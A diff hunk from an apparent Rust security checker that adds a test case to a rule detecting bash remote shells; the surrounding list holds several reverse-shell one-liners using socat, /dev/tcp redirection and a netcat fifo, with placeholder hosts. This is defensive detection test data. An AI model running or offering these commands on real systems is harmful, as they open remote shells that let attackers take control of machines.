@@ -62,6 +62,7 @@ pub(in crate::check) static BASH_REMOTE_SHELL: Rule = Rule {
         "socat exec:sh tcp:h:1\n",
         "bash -c \"exec 3<>/dev/tcp/h/80\"\n",
         "sh -i 5<> /dev/tcp/h/1\n",
+        "for h in a b; do echo > /dev/tcp/$h/80; done\n",
         "cat fifo | sh -i 2>&1 | nc h 1 > fifo\n",
     ],
     passes: &[
